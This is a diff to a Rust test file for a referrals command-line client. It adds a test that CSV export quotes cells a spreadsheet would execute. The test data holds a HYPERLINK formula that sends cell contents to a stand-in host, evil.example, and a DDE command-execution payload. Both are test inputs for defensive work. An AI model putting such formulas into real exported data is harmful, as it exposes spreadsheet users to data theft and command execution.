@@ -221,7 +221,11 @@ fn list_writes_every_format() {
         .iter()
         .map(str::to_owned)
         .collect();
-    assert_eq!(headers, facts::COLUMNS);
+    let spreadsheet: Vec<String> = facts::COLUMNS
+        .iter()
+        .map(|column| referrals_client::flat::spreadsheet_text(column).into_owned())
+        .collect();
+    assert_eq!(headers, spreadsheet);
     assert_eq!(reader.records().count(), 5);
 
     let out = server
@@ -288,6 +292,69 @@ fn flag_values_are_literals() {
     assert_eq!(ids, [serde_json::json!({"id": created.id.unwrap()})]);
     let out = server.run(&["list", "--status", "Ünïcødé 'New'"]).ok();
     assert_eq!(out.stdout, "");
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
+    let server = Server::start(0);
+    let mut new: referrals_client::types::NewReferral = serde_json::from_str(
+        &std::fs::read_to_string(
+            Path::new(env!("CARGO_MANIFEST_DIR"))
+                .join("../../openapi/examples/ours-create-request.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    new.name = Some(name.into());
+    new.details.notes = Some("+cmd|' /C calc'!A0".into());
+    new.details.deal_value = Some("-1234567890123.45".parse().unwrap());
+    let created = server.runtime.block_on(server.client.create(&new)).unwrap();
+    let id = created.id.unwrap();
+    let read = |raw: bool| {
+        let mut args = vec!["list", "--format", "csv", "--filter"];
+        let filter = format!(
+            "engagementId eq '{}'",
+            created.engagement_id.clone().unwrap()
+        );
+        args.push(&filter);
+        if raw {
+            args.push("--raw-csv");
+        }
+        let out = server.run(&args).ok();
+        let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
+        let headers = reader.headers().unwrap().clone();
+        let row = reader.records().next().unwrap().unwrap();
+        let get = |column: &str| {
+            let at = headers
+                .iter()
+                .position(|h| h.trim_start_matches('\'') == column)
+                .unwrap();
+            (headers[at].to_owned(), row[at].to_owned())
+        };
+        (
+            get("name"),
+            get("details/notes"),
+            get("details/dealValue"),
+            get("@odata.context").0,
+            get("id").1,
+        )
+    };
+    let (name_cell, notes, deal, context, found) = read(false);
+    assert_eq!(found, id);
+    assert_eq!(name_cell.1, format!("'{name}"));
+    assert_eq!(notes.1, "'+cmd|' /C calc'!A0");
+    assert_eq!(
+        deal.1, "-1234567890123.45",
+        "a number keeps its digits and its sign"
+    );
+    assert_eq!(context, "'@odata.context", "the header is text too");
+    let (name_cell, notes, _, context, _) = read(true);
+    assert_eq!(
+        (name_cell.1.as_str(), notes.1.as_str()),
+        (name, "+cmd|' /C calc'!A0")
+    );
+    assert_eq!(context, "@odata.context");
 }
 
 #[test]
